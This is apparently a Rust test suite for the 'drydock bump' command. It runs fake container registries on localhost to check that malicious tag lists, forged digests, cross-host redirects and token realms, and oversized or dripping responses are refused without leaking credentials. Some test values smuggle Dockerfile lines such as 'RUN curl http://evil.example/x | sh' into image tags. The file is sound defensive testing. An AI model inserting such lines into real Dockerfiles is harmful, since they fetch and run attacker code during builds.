//! `drydock bump` against hostile registry stand-ins on 127.0.0.1: tag lists carrying Dockerfile
//! lines, digests with spaces, a `Docker-Content-Digest` that is not the body's, a `Link` and a
//! token realm on another host (a second listener counts the credentials it receives), a huge
//! body and a dripping one. Each asserts the outcome: nothing injected, nothing written, the
//! refusal named, no credential sent. Also the Dockerfile-side cases of bump: a non-UTF-8
//! Dockerfile, no Dockerfile at all, and `--repo`.
//!
//! The stand-in is a plain thread per listener: every loop is bounded by a connection count, a
//! byte count and a deadline, and the listener stops when its [`StandIn`] is dropped.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use sha2::Digest;

use crate::support::drydock;
use crate::support::http::{Seen, head_complete, parse_head};

/// user:s3cret, as a Basic header value.
const BASIC: &str = "Basic dXNlcjpzM2NyZXQ=";
const SECRET: &str = "s3cret";

/// How a stand-in sends a body.
enum Body {
    Bytes(Vec<u8>),
    /// `total` bytes of JSON-ish filler with no `Content-Length`, stopping when the client
    /// hangs up.
    Endless {
        total: u64,
    },
    /// `head`, then one byte of `drip` per `every`.
    Drip {
        head: Vec<u8>,
        drip: Vec<u8>,
        every: Duration,
    },
}

struct Reply {
    status: u16,
    headers: Vec<(String, String)>,
    body: Body,
}

fn reply(status: u16, body: &str) -> Reply {
    Reply {
        status,
        headers: Vec::new(),
        body: Body::Bytes(body.as_bytes().to_vec()),
    }
}

impl Reply {
    fn header(mut self, k: &str, v: &str) -> Reply {
        self.headers.push((k.into(), v.into()));
        self
    }
}

type Handler = dyn Fn(&Seen, &str) -> Reply + Send + Sync;

/// One listener on 127.0.0.1 with a log of what it was sent and a count of body bytes written.
struct StandIn {
    base: String,
    log: Arc<Mutex<Vec<Seen>>>,
    written: Arc<AtomicU64>,
    stop: Arc<AtomicBool>,
}

impl Drop for StandIn {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

impl StandIn {
    fn seen(&self) -> Vec<Seen> {
        self.log.lock().unwrap().clone()
    }

    /// Every credential-bearing header it received.
    fn credentials_received(&self) -> Vec<String> {
        self.seen()
            .iter()
            .filter_map(|s| s.header("authorization").map(str::to_string))
            .collect()
    }
}

const MAX_CONNECTIONS: usize = 100;
const LIFETIME: Duration = Duration::from_secs(60);

fn stand_in(handler: impl Fn(&Seen, &str) -> Reply + Send + Sync + 'static) -> StandIn {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let log = Arc::new(Mutex::new(Vec::new()));
    let written = Arc::new(AtomicU64::new(0));
    let stop = Arc::new(AtomicBool::new(false));
    let handler: Arc<Handler> = Arc::new(handler);
    let (log2, written2, stop2, base2) = (log.clone(), written.clone(), stop.clone(), base.clone());
    std::thread::spawn(move || {
        let deadline = Instant::now() + LIFETIME;
        let mut served = 0;
        while served < MAX_CONNECTIONS
            && Instant::now() < deadline
            && !stop2.load(Ordering::Relaxed)
        {
            match listener.accept() {
                Ok((socket, _)) => {
                    served += 1;
                    let (handler, log, written, base) = (
                        handler.clone(),
                        log2.clone(),
                        written2.clone(),
                        base2.clone(),
                    );
                    std::thread::spawn(move || serve(socket, &*handler, &log, &written, &base));
                }
                Err(_) => std::thread::sleep(Duration::from_millis(5)),
            }
        }
    });
    StandIn {
        base,
        log,
        written,
        stop,
    }
}

fn serve(
    mut socket: TcpStream,
    handler: &Handler,
    log: &Mutex<Vec<Seen>>,
    written: &AtomicU64,
    base: &str,
) {
    socket.set_nonblocking(false).unwrap();
    socket
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    socket
        .set_write_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while !head_complete(&buf) && buf.len() < 65536 {
        match socket.read(&mut chunk) {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    let seen = parse_head(&buf);
    log.lock().unwrap().push(seen.clone());
    let r = handler(&seen, base);
    let mut head = format!("HTTP/1.1 {} X\r\nConnection: close\r\n", r.status);
    if let Body::Bytes(b) = &r.body {
        head.push_str(&format!("Content-Length: {}\r\n", b.len()));
    }
    for (k, v) in &r.headers {
        head.push_str(&format!("{k}: {v}\r\n"));
    }
    head.push_str("\r\n");
    if socket.write_all(head.as_bytes()).is_err() || seen.method == "HEAD" {
        return;
    }
    let mut send = |bytes: &[u8]| {
        let ok = socket.write_all(bytes).is_ok();
        if ok {
            written.fetch_add(bytes.len() as u64, Ordering::Relaxed);
        }
        ok
    };
    match r.body {
        Body::Bytes(b) => {
            send(&b);
        }
        Body::Endless { total } => {
            let filler = vec![b' '; 64 * 1024];
            let mut sent = 0;
            send(b"{\"tags\":[");
            while sent < total && send(&filler) {
                sent += filler.len() as u64;
            }
        }
        Body::Drip { head, drip, every } => {
            send(&head);
            for b in drip {
                std::thread::sleep(every);
                if !send(&[b]) {
                    break;
                }
            }
        }
    }
    let _ = socket.shutdown(std::net::Shutdown::Both);
}

fn tags_json(tags: &[&str]) -> String {
    serde_json::json!({ "name": "library/python", "tags": tags }).to_string()
}

fn sha256(bytes: &[u8]) -> String {
    format!("sha256:{:x}", sha2::Sha256::digest(bytes))
}

/// A checkout with the given files, and a fleet.toml beside it mirroring docker.io to `base`.
struct Setup {
    dir: tempfile::TempDir,
}

impl Setup {
    fn new(base: &str, registry_extra: &str, files: &[(&str, &[u8])]) -> Setup {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(
            dir.path().join("fleet.toml"),
            format!("[registry]\nmirrors = {{ \"docker.io\" = \"{base}\" }}\n{registry_extra}"),
        )
        .unwrap();
        for (name, bytes) in files {
            let path = dir.path().join("repo").join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, bytes).unwrap();
        }
        std::fs::create_dir_all(dir.path().join("repo")).unwrap();
        Setup { dir }
    }

    fn repo(&self) -> std::path::PathBuf {
        self.dir.path().join("repo")
    }

    fn file(&self, name: &str) -> Vec<u8> {
        std::fs::read(self.repo().join(name)).unwrap()
    }

    /// `bump --write --format json` with the registry credentials for docker.io in the
    /// environment; (exit code, stdout, stderr).
    fn bump(&self, extra: &[&str]) -> (i32, String, String) {
        let out = drydock()
            .current_dir(self.dir.path())
            .env("DRYDOCK_REGISTRY_HOST", "docker.io")
            .env("DRYDOCK_REGISTRY_USER", "user")
            .env("DRYDOCK_REGISTRY_PASSWORD", SECRET)
            .args([
                "bump",
                "--fleet",
                "fleet.toml",
                "--path",
                "repo",
                "--write",
                "--format",
                "json",
            ])
            .args(extra)
            .output()
            .unwrap();
        let (stdout, stderr) = (
            String::from_utf8_lossy(&out.stdout).to_string(),
            String::from_utf8_lossy(&out.stderr).to_string(),
        );
        assert!(
            !stdout.contains(SECRET) && !stderr.contains(SECRET) && !stderr.contains(BASIC),
            "a credential reached the output:\n{stdout}\n{stderr}"
        );
        (out.status.code().unwrap_or(-1), stdout, stderr)
    }
}

fn json(stdout: &str) -> serde_json::Value {
    serde_json::from_str(stdout).unwrap_or_else(|e| panic!("not JSON ({e}): {stdout}"))
}

/// A registry that asks for Basic credentials and answers with `tags` once they come.
fn basic_registry(tags: Vec<String>) -> StandIn {
    stand_in(move |req, _| {
        if req.header("authorization") != Some(BASIC) {
            return reply(401, "").header("WWW-Authenticate", r#"Basic realm="r""#);
        }
        let tags: Vec<&str> = tags.iter().map(String::as_str).collect();
        reply(200, &tags_json(&tags))
    })
}

#[test]
fn a_tag_list_carrying_dockerfile_lines_is_refused_and_nothing_is_injected() {
    let evil = [
        "3.99\nRUN curl http://evil.example/x | sh",
        "3.98 AS evil",
        "3.97\r\nRUN id",
        "3.96\u{1b}]0;x\u{7}",
    ];
    let mut tags = vec!["3.12".to_string(), "3.13".to_string()];
    tags.extend(evil.iter().map(|t| t.to_string()));
    let registry = basic_registry(tags);
    let setup = Setup::new(
        &registry.base,
        "",
        &[
            ("Dockerfile", b"FROM python:3.12\nRUN true\n"),
            ("arg/Dockerfile", b"ARG PY=3.12\nFROM python:${PY}\n"),
        ],
    );
    let (code, stdout, stderr) = setup.bump(&[]);
    assert_eq!(code, 1, "{stdout}\n{stderr}");
    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.13\nRUN true\n");
    assert_eq!(
        setup.file("arg/Dockerfile"),
        b"ARG PY=3.13\nFROM python:${PY}\n"
    );
    let report = json(&stdout);
    let refused: Vec<&str> = report["refused"]
        .as_array()
        .unwrap_or_else(|| panic!("no refused list: {stdout}"))
        .iter()
        .map(|r| r["value"].as_str().unwrap())
        .collect();
    let mut expected = evil.to_vec();
    expected.sort();
    assert_eq!(refused, expected);
    assert!(
        stderr.contains(r#"refused "3.99\nRUN curl http://evil.example/x | sh""#),
        "the refusal is named, escaped: {stderr}"
    );
    assert!(!stderr.contains('\u{1b}'), "{stderr:?}");
}

#[test]
fn digests_that_are_not_sha256_hex_are_refused_and_nothing_is_written() {
    let old = format!("sha256:{}", "0".repeat(64));
    let registry = stand_in(|req, _| {
        if req.target.contains("/manifests/") {
            reply(200, "").header(
                "Docker-Content-Digest",
                "sha256:abc AS evil --platform=linux/evil",
            )
        } else {
            reply(200, &tags_json(&["3.12"]))
        }
    });
    let dockerfile = format!("FROM python:3.12@{old}\n");
    let setup = Setup::new(&registry.base, "", &[("Dockerfile", dockerfile.as_bytes())]);
    let (code, stdout, stderr) = setup.bump(&["--pin-digests"]);
    assert_eq!(code, 3, "{stdout}\n{stderr}");
    assert_eq!(setup.file("Dockerfile"), dockerfile.as_bytes());
    assert!(
        stderr.contains(r#"refused the digest"#)
            && stderr.contains(r#""sha256:abc AS evil --platform=linux/evil""#),
        "{stderr}"
    );
}

#[test]
fn a_docker_content_digest_that_is_not_the_bodys_is_refused() {
    let manifest = br#"{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[]}"#;
    let claimed = format!("sha256:{}", "ab".repeat(32));
    let claimed2 = claimed.clone();
    let registry = stand_in(move |req, _| {
        if req.target.contains("/manifests/") {
            if req.method == "HEAD" {
                // No header on HEAD: drydock fetches the body, and can check the claim.
                return reply(200, "");
            }
            return reply(200, std::str::from_utf8(manifest).unwrap())
                .header("Docker-Content-Digest", &claimed2);
        }
        reply(200, &tags_json(&["3.12", "3.13"]))
    });
    let setup = Setup::new(&registry.base, "", &[("Dockerfile", b"FROM python:3.12\n")]);
    let (code, stdout, stderr) = setup.bump(&["--pin-digests"]);
    assert_eq!(code, 3, "{stdout}\n{stderr}");
    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.12\n");
    assert!(
        stderr.contains(&claimed)
            && stderr.contains(&sha256(manifest))
            && stderr.contains("is not the digest of the manifest"),
        "{stderr}"
    );

    // The same body with its true digest is pinned: the check is what refused it.
    let honest = stand_in(move |req, _| {
        if req.target.contains("/manifests/") {
            return reply(200, std::str::from_utf8(manifest).unwrap());
        }
        reply(200, &tags_json(&["3.12", "3.13"]))
    });
    let setup = Setup::new(&honest.base, "", &[("Dockerfile", b"FROM python:3.12\n")]);
    let (code, stdout, stderr) = setup.bump(&["--pin-digests"]);
    assert_eq!(code, 1, "{stdout}\n{stderr}");
    assert_eq!(
        setup.file("Dockerfile"),
        format!("FROM python:3.13@{}\n", sha256(manifest)).as_bytes()
    );
}

#[test]
fn a_link_to_another_host_gets_neither_credentials_nor_the_bearer_token() {
    let other = stand_in(|_, _| reply(200, &tags_json(&["3.13"])));
    let other_base = other.base.clone();
    let registry = stand_in(move |req, base| {
        if req.target.starts_with("/token") {
            return if req.header("authorization") == Some(BASIC) {
                reply(200, r#"{"token":"registry-token"}"#)
            } else {
                reply(401, "")
            };
        }
        if req.header("authorization") != Some("Bearer registry-token") {
            return reply(401, "").header(
                "WWW-Authenticate",
                &format!(r#"Bearer realm="{base}/token",service="s""#),
            );
        }
        reply(200, &tags_json(&["3.12"])).header(
            "Link",
            &format!(r#"<{other_base}/v2/library/python/tags/list?last=3.12>; rel="next""#),
        )
    });
    let setup = Setup::new(&registry.base, "", &[("Dockerfile", b"FROM python:3.12\n")]);
    let (code, stdout, stderr) = setup.bump(&[]);
    assert!(
        !other.seen().is_empty(),
        "the link was followed: {stdout}\n{stderr}"
    );
    assert_eq!(other.credentials_received(), Vec::<String>::new());
    assert!(
        registry
            .credentials_received()
            .iter()
            .any(|h| h == "Bearer registry-token"),
        "the registry itself got its token"
    );
    assert_eq!(code, 1, "{stdout}\n{stderr}");
}

#[test]
fn a_link_to_another_host_that_asks_for_credentials_is_refused_with_a_reason() {
    let other = stand_in(|_, base| {
        reply(401, "").header(
            "WWW-Authenticate",
            &format!(r#"Bearer realm="{base}/token",service="s""#),
        )
    });
    let other_base = other.base.clone();
    let registry = stand_in(move |req, _| {
        if req.header("authorization") != Some(BASIC) {
            return reply(401, "").header("WWW-Authenticate", r#"Basic realm="r""#);
        }
        reply(200, &tags_json(&["3.12"])).header(
            "Link",
            &format!(r#"<{other_base}/v2/library/python/tags/list?last=3.12>; rel="next""#),
        )
    });
    let setup = Setup::new(&registry.base, "", &[("Dockerfile", b"FROM python:3.12\n")]);
    let (code, stdout, stderr) = setup.bump(&[]);
    assert_eq!(code, 3, "{stdout}\n{stderr}");
    assert_eq!(other.credentials_received(), Vec::<String>::new());
    assert!(
        other.seen().iter().all(|s| !s.target.starts_with("/token")),
        "no token was asked of the other host"
    );
    assert!(
        stderr.contains("is on another host than the registry"),
        "{stderr}"
    );
    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.12\n");
}

#[test]
fn a_token_realm_on_another_host_over_plain_http_gets_no_credentials() {
    let realm = stand_in(|_, _| reply(200, r#"{"token":"t"}"#));
    let realm_base = realm.base.clone();
    let registry = stand_in(move |req, _| {
        if req.header("authorization") == Some("Bearer t") {
            return reply(200, &tags_json(&["3.12", "3.13"]));
        }
        reply(401, "").header(
            "WWW-Authenticate",
            &format!(r#"Bearer realm="{realm_base}/token",service="s""#),
        )
    });
    let setup = Setup::new(&registry.base, "", &[("Dockerfile", b"FROM python:3.12\n")]);
    let (code, stdout, stderr) = setup.bump(&[]);
    assert_eq!(realm.credentials_received(), Vec::<String>::new());
    assert_eq!(code, 3, "{stdout}\n{stderr}");
    assert!(
        stderr.contains("another host over plain HTTP"),
        "the refusal is named: {stderr}"
    );
    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.12\n");
}

#[test]
fn a_huge_body_is_refused_at_the_cap_without_being_read_whole() {
    let registry = stand_in(|_, _| Reply {
        status: 200,
        headers: Vec::new(),
        body: Body::Endless {
            total: 256 * 1024 * 1024,
        },
    });
    let setup = Setup::new(
        &registry.base,
        "max_response_bytes = 65536\n",
        &[("Dockerfile", b"FROM python:3.12\n")],
    );
    let (code, stdout, stderr) = setup.bump(&[]);
    assert_eq!(code, 3, "{stdout}\n{stderr}");
    assert!(
        stderr.contains("is larger than 65536 bytes") && stderr.contains("max_response_bytes"),
        "{stderr}"
    );
    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.12\n");
    // What the kernel's socket buffers take is all that is sent before drydock hangs up.
    let sent = registry.written.load(Ordering::Relaxed);
    assert!(sent < 32 * 1024 * 1024, "the stand-in sent {sent} bytes");
}

#[test]
fn a_dripping_body_times_out_and_says_so() {
    let registry = stand_in(|_, _| Reply {
        status: 200,
        headers: Vec::new(),
        body: Body::Drip {
            head: br#"{"tags":["3.12""#.to_vec(),
            drip: b",\"3.13\"]}".to_vec(),
            every: Duration::from_millis(400),
        },
    });
    let setup = Setup::new(
        &registry.base,
        "timeout_seconds = 1\n",
        &[("Dockerfile", b"FROM python:3.12\n")],
    );
    let (code, stdout, stderr) = setup.bump(&[]);
    assert_eq!(code, 3, "{stdout}\n{stderr}");
    assert!(
        stderr.contains("timed out") && stderr.contains("timeout_seconds"),
        "{stderr}"
    );
    assert!(!stderr.contains("error decoding"), "{stderr}");
    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.12\n");
}

#[test]
fn a_non_utf8_dockerfile_is_skipped_and_the_others_are_bumped() {
    let registry = basic_registry(vec!["3.12".into(), "3.13".into()]);
    let latin1: &[u8] = b"# caf\xe9\nFROM python:3.12\n";
    let setup = Setup::new(
        &registry.base,
        "",
        &[
            ("a/Dockerfile", latin1),
            ("b/Dockerfile", b"FROM python:3.12\n"),
        ],
    );
    let (code, stdout, stderr) = setup.bump(&[]);
    assert_eq!(code, 1, "{stdout}\n{stderr}");
    assert_eq!(setup.file("a/Dockerfile"), latin1);
    assert_eq!(setup.file("b/Dockerfile"), b"FROM python:3.13\n");
    let report = json(&stdout);
    let skipped = &report["skipped"][0];
    assert_eq!(skipped["file"], "a/Dockerfile", "{stdout}");
    assert_eq!(skipped["line"], 1, "{stdout}");
    assert!(
        skipped["reason"]
            .as_str()
            .unwrap()
            .contains("not UTF-8 (byte 6)"),
        "{stdout}"
    );
}

#[test]
fn bump_says_when_there_is_no_dockerfile() {
    let dir = tempfile::tempdir().unwrap();
    let out = drydock()
        .current_dir(dir.path())
        .args(["bump", "--path", "."])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout),
        "no Dockerfile found: nothing to bump\n"
    );
}

fn fleet_with_checkout(dir: &Path) {
    std::fs::write(
        dir.join("fleet.toml"),
        "[[repo]]\nname = \"acme/shop\"\npath = \"shop\"\n\n[[repo]]\nname = \"acme/web\"\nurl = \"https://git.invalid/acme/web.git\"\n",
    )
    .unwrap();
    std::fs::create_dir_all(dir.join("shop")).unwrap();
    std::fs::write(dir.join("shop/Dockerfile"), "FROM python:3.12\n").unwrap();
    // Not in acme/shop: `bump --repo acme/shop` from here must leave it alone.
    std::fs::create_dir_all(dir.join("elsewhere")).unwrap();
    std::fs::write(dir.join("elsewhere/Dockerfile"), "FROM python:3.12\n").unwrap();
}

#[test]
fn bump_repo_works_on_that_repositorys_checkout() {
    let registry = basic_registry(vec!["3.12".into(), "3.13".into()]);
    let dir = tempfile::tempdir().unwrap();
    fleet_with_checkout(dir.path());
    let out = drydock()
        .current_dir(dir.path())
        .env("DRYDOCK_REGISTRY_HOST", "docker.io")
        .env("DRYDOCK_REGISTRY_USER", "user")
        .env("DRYDOCK_REGISTRY_PASSWORD", SECRET)
        .args(["bump", "--repo", "acme/shop", "--write"])
        .args(["--registry-mirror", &format!("docker.io={}", registry.base)])
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert_eq!(
        std::fs::read_to_string(dir.path().join("shop/Dockerfile")).unwrap(),
        "FROM python:3.13\n"
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("elsewhere/Dockerfile")).unwrap(),
        "FROM python:3.12\n"
    );
}

#[test]
fn bump_refuses_several_repos_or_repo_with_path() {
    let dir = tempfile::tempdir().unwrap();
    fleet_with_checkout(dir.path());
    for (args, expected) in [
        (
            &["--repo", "acme/shop", "--repo", "acme/web"][..],
            "bump works on one checkout per run, and 2 --repo were given",
        ),
        (
            &["--repo", "acme/shop", "--path", "shop"][..],
            "bump takes --path or --repo, not both",
        ),
        (&["--repo", "acme/web"][..], "acme/web: no checkout at"),
    ] {
        let out = drydock()
            .current_dir(dir.path())
            .arg("bump")
            .args(args)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(expected), "{args:?}: {stderr}");
    }
    assert_eq!(
        std::fs::read_to_string(dir.path().join("shop/Dockerfile")).unwrap(),
        "FROM python:3.12\n"
    );
}

#[test]
fn what_a_person_reads_about_refused_tags_and_skipped_files() {
    let registry = basic_registry(vec![
        "3.12".into(),
        "3.13".into(),
        "3.99\nRUN curl http://evil.example/x | sh".into(),
    ]);
    let setup = Setup::new(
        &registry.base,
        "",
        &[
            ("Dockerfile", b"FROM python:3.12\n"),
            ("legacy/Dockerfile", b"FROM python:3.12\n# \xff\n"),
        ],
    );
    let out = drydock()
        .current_dir(setup.dir.path())
        .env("DRYDOCK_REGISTRY_HOST", "docker.io")
        .env("DRYDOCK_REGISTRY_USER", "user")
        .env("DRYDOCK_REGISTRY_PASSWORD", SECRET)
        .args(["bump", "--fleet", "fleet.toml", "--path", "repo"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    insta::assert_snapshot!(format!(
        "stdout:\n{}\nstderr:\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    ));
    assert_eq!(setup.file("Dockerfile"), b"FROM python:3.12\n");
}

#[test]
fn a_redirect_to_another_host_carries_no_credentials() {
    let other = stand_in(|_, _| reply(200, &tags_json(&["3.12", "3.13"])));
    let other_base = other.base.clone();
    let registry = stand_in(move |req, _| {
        if req.header("authorization") != Some(BASIC) {
            return reply(401, "").header("WWW-Authenticate", r#"Basic realm="r""#);
        }
        reply(307, "").header("Location", &format!("{other_base}{}", req.target))
    });
    let setup = Setup::new(&registry.base, "", &[("Dockerfile", b"FROM python:3.12\n")]);
    let (code, stdout, stderr) = setup.bump(&[]);
    assert!(!other.seen().is_empty(), "{stdout}\n{stderr}");
    assert_eq!(other.credentials_received(), Vec::<String>::new());
    assert_eq!(code, 1, "{stdout}\n{stderr}");
}
